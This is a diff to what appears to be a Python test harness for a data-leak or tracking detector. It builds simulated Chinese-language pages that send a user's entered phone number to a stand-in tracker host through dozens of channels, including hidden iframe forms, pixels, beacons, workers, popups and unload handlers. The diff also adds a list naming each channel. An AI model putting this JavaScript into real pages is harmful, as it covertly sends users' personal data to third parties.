@@ -62,12 +62,21 @@ async function fire(){
  const hidden=node('iframe',{name:'sink',style:'display:none'});const g=node('form',{method:'post',action:T+'form-in-frame',target:'sink'});g.append(Object.assign(document.createElement('input'),{name:'v',value:M}));g.submit();
  new Image().src=T+'redirect?v='+M;
  setTimeout(()=>node('a',{href:T+'download?v='+M,download:'a.bin',textContent:'.'}).click(),500);
- setTimeout(()=>location.href=APP.replace('{}',M),900);
- setTimeout(()=>window.open(POP+'/b/popup?v='+M),1300);
- setTimeout(()=>window.open(POP+'/b/popup-noopener?v='+M,'_blank','noopener'),1700);
+ setTimeout(()=>location.href=APP.replace('{}',M),3000);
+ setTimeout(()=>window.open(POP+'/b/popup?v='+M),3600);
+ setTimeout(()=>window.open(POP+'/b/popup-noopener?v='+M,'_blank','noopener'),4200);
 }
 function move(){const f=node('form',{method:'post',action:NEXT+'/b/form-307'});f.append(Object.assign(document.createElement('input'),{name:'v',value:M}));f.submit()}
 """
+CHANNELS = (
+    *("fetch", "fetch-keepalive", "fetch-blob", "fetch-bytes", "fetch-gzip", "multipart-blob"),
+    *("xhr", "beacon", "beacon-blob", "img-pixel", "script", "stylesheet", "object", "ping"),
+    *("event-source", "socket", "socket frame", "worker", "shared-worker", "service-worker"),
+    *("frame", "fetch-of-frame", "form-in-frame", "redirect", "redirected", "form-307", "carried"),
+    *("popup", "popup-noopener", "closed-popup-beacon", "closed-popup-keepalive", "download"),
+    *("unload-beacon", "unload-keepalive", "unload-blob", "app link (kept whole)"),
+)
+"""What every walk of it must meet; a prefetch is at the browser's discretion."""
 WORKER = "onconnect=e=>{e.ports[0].onmessage=m=>fetch(m.data[0],{method:'POST',body:m.data[1],mode:'no-cors'})}"
 SERVICE = (
     "oninstall=()=>skipWaiting();onactivate=e=>e.waitUntil(clients.claim());"
@@ -96,7 +105,7 @@ def set_up(world: World, mobile: str) -> None:
     """The companies and their pages; every page knows the value it is to send."""
     told = f"const M='{mobile}',T='{world.url(TRACKER, '/b/')}',FRAME='{world.url(FRAMED, '')}',POP='{world.url(POPPED, '')}',NEXT='{world.url(NEXT, '')}',APP='{APP}';"
     first = f"""<!doctype html><html><head><meta charset="utf-8"><title>示例</title></head><body><p><label>手机号<input id="m" type="tel" name="mobile"></label></p>
-<button onclick="if(m.value){{this.remove();fire();setTimeout(()=>document.body.append(Object.assign(document.createElement('button'),{{textContent:'下一步',onclick:move}})),2200)}}">立即申请</button>
+<button onclick="if(m.value){{this.remove();fire();setTimeout(()=>document.body.append(Object.assign(document.createElement('button'),{{textContent:'下一步',onclick:move}})),4800)}}">立即申请</button>
 <script>{told}{SEND}{GONE.replace("PREFIX", "unload")}</script></body></html>"""
     world.page(START, "/", first)
     world.page(START, "/shared.js", Reply(WORKER, kind="text/javascript"))
